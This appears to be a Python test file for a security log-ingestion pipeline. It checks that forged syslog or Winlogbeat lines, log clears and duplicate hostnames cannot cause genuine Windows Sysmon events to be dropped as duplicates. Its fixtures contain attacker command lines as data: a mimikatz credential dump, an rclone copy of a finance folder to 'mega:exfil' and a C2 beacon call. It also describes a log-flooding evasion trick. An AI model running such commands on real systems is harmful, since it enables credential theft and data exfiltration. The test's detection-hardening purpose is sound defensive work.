"""A genuine Windows event is never dropped as a duplicate of a different event (task IDFIX, red team T13 F1).

A Windows event's id was the content id of its ``System`` key alone (channel, host without
its domain, record number, event id, second of the quarter hour) and the first record with
a key won.  So 900 forged lines for a host's next record number, an old record after a log
clear, or a machine of the same name in another domain made the genuine record a duplicate,
dropped for good.  The id now also covers the event's own data and the computer's full name
(:mod:`ingest.parsers.windows_record_ids`): every case below keeps the genuine event, and
the same event in several exports stays one (``tests/ingest/test_export_ids.py``).
"""

from __future__ import annotations

from pathlib import Path

import orjson

from ingest.journal import Journal
from ingest.pipeline import ingest_paths

SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _sysmon_1(computer: str, record: int, at: str, image: str, command: str) -> dict[str, object]:
    """A Winlogbeat 7 Sysmon process creation of ``computer``, its record number ``record``."""
    return {
        "@timestamp": at, "event": {"code": "1", "provider": "x"}, "host": {"name": "collector01"},
        "winlog": {
            "channel": SYSMON, "computer_name": computer, "event_id": 1, "record_id": record,
            "event_data": {
                "UtcTime": at.replace("T", " ").rstrip("Z"), "ProcessGuid": f"{{11111111-2222-3333-4444-{record:012d}}}",
                "ProcessId": "4242", "Image": image, "CommandLine": command, "User": "CORP\\bob",
                "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentProcessId": "4100",
            },
        },
    }


def _ingest(path: Path, lines: list[bytes], journal: Journal):
    path.write_bytes(b"\n".join(lines) + b"\n")
    return ingest_paths([path], store=None, journal=journal, progress=False)


def _commands(journal: Journal) -> list[str]:
    rows = journal.connection.execute("SELECT fields FROM events ORDER BY seq").fetchall()
    return [orjson.loads(fields).get("process.command_line", "") for (fields,) in rows]


def _command_of_genuine_after_forged(
    tmp_path: Path, forged_file: str, forged: list[bytes], genuine: dict[str, object]
) -> str:
    """Ingest the 900 forged lines, then the genuine record: it must be a new event; its command line."""
    journal = Journal(tmp_path / "journal.sqlite")
    assert _ingest(tmp_path / forged_file, forged, journal).total.events == 900

    report = _ingest(tmp_path / "genuine.ndjson", [orjson.dumps(genuine)], journal)

    assert (report.total.events, report.total.duplicates) == (1, 0)
    return _commands(journal)[-1]


def test_forged_lines_for_every_second_of_a_record_number_do_not_shadow_the_genuine_record(tmp_path: Path) -> None:
    """900 benign lines for ws-alpha's next record number, one per second of the quarter hour, sent first."""
    forged = [
        orjson.dumps(_sysmon_1("WS-ALPHA.corp.example", 48214, f"2024-03-05T14:{second // 60:02d}:{second % 60:02d}.000Z",
                               "C:\\Windows\\System32\\notepad.exe", "notepad.exe"))
        for second in range(900)
    ]
    genuine = _sysmon_1("WS-ALPHA.corp.example", 48214, "2024-03-05T15:07:41.250Z",
                        "C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe sekurlsa::logonpasswords")

    kept = _command_of_genuine_after_forged(tmp_path, "forged.ndjson", forged, genuine)

    assert kept == "mimikatz.exe sekurlsa::logonpasswords"


def test_unauthenticated_cee_syslog_lines_do_not_shadow_the_genuine_record(tmp_path: Path) -> None:
    """The same pre-emption through the syslog path: NXLog JSON in ``@cee`` lines, then Winlogbeat's record."""
    lines = []
    for second in range(900):
        at = f"2024-03-05T14:{second // 60:02d}:{second % 60:02d}"
        nxlog = {
            "EventTime": at.replace("T", " "), "Hostname": "WS-GAMMA.corp.example", "EventID": 1,
            "RecordNumber": 77001, "Channel": SYSMON, "UtcTime": at.replace("T", " ") + ".000",
            "ProcessGuid": "{aaaaaaaa-0000-0000-0000-000000000001}", "ProcessId": "100",
            "Image": "C:\\Windows\\System32\\notepad.exe", "CommandLine": "notepad.exe", "User": "CORP\\bob",
            "ParentImage": "C:\\Windows\\explorer.exe",
        }
        lines.append(f"<14>1 {at}Z attacker nxlog - - - @cee: ".encode() + orjson.dumps(nxlog))
    genuine = _sysmon_1("WS-GAMMA.corp.example", 77001, "2024-03-05T16:38:12.400Z",
                        "C:\\Users\\Public\\rclone.exe", "rclone.exe copy C:\\finance mega:exfil")

    kept = _command_of_genuine_after_forged(tmp_path, "forged_syslog.log", lines, genuine)

    assert kept == "rclone.exe copy C:\\finance mega:exfil"


def test_a_new_record_after_a_log_clear_is_kept_beside_the_old_one_of_its_number_and_second(tmp_path: Path) -> None:
    """Records number from 1 again after ``wevtutil cl``: same number, event id and second of the quarter hour."""
    journal = Journal(tmp_path / "journal.sqlite")
    before = _sysmon_1("WS-BETA", 7, "2024-03-01T04:07:41.100Z",
                       "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs")
    after = _sysmon_1("WS-BETA", 7, "2024-03-09T15:52:41.900Z", "C:\\Users\\Public\\evil.exe", "evil.exe -c2 10.9.9.9")
    _ingest(tmp_path / "before.ndjson", [orjson.dumps(before)], journal)

    report = _ingest(tmp_path / "after.ndjson", [orjson.dumps(after)], journal)

    assert (report.total.events, report.total.duplicates) == (1, 0)
    assert _commands(journal) == ["svchost.exe -k netsvcs", "evil.exe -c2 10.9.9.9"]


def test_two_machines_of_one_name_in_two_domains_keep_their_own_records(tmp_path: Path) -> None:
    """WS01.sales.corp and WS01.labs.corp number their logs alike; even the same data is two machines' events."""
    journal = Journal(tmp_path / "journal.sqlite")
    sales = _sysmon_1("WS01.sales.corp", 1200, "2024-03-05T10:03:09.000Z", "C:\\Temp\\beacon.exe", "beacon.exe")
    labs = _sysmon_1("WS01.labs.corp", 1200, "2024-03-05T10:48:09.000Z", "C:\\Temp\\beacon.exe", "beacon.exe")
    _ingest(tmp_path / "sales.ndjson", [orjson.dumps(sales)], journal)

    report = _ingest(tmp_path / "labs.ndjson", [orjson.dumps(labs)], journal)

    assert (report.total.events, report.total.duplicates) == (1, 0)
    originals = [orjson.loads(fields)["host.name.original"]
                 for (fields,) in journal.connection.execute("SELECT fields FROM events ORDER BY seq")]
    assert originals == ["WS01.sales.corp", "WS01.labs.corp"]


def test_the_same_record_shipped_again_with_its_name_in_other_case_and_blanks_is_one_event(tmp_path: Path) -> None:
    """What the exports differ in (the name's case, a trailing blank evtx_dump trims) is not another event."""
    journal = Journal(tmp_path / "journal.sqlite")
    record = _sysmon_1("WS-ALPHA.corp.example", 48214, "2024-03-05T15:07:41.250Z",
                       "C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe sekurlsa::logonpasswords ")
    _ingest(tmp_path / "first.ndjson", [orjson.dumps(record)], journal)
    again = orjson.loads(orjson.dumps(record))
    again["winlog"]["computer_name"] = "WS-ALPHA.CORP.EXAMPLE"
    again["winlog"]["event_data"]["CommandLine"] = "mimikatz.exe sekurlsa::logonpasswords"
    again["message"] = "Process Create: ..."

    report = _ingest(tmp_path / "again.ndjson", [orjson.dumps(again)], journal)

    assert (report.total.events, report.total.duplicates) == (0, 1)
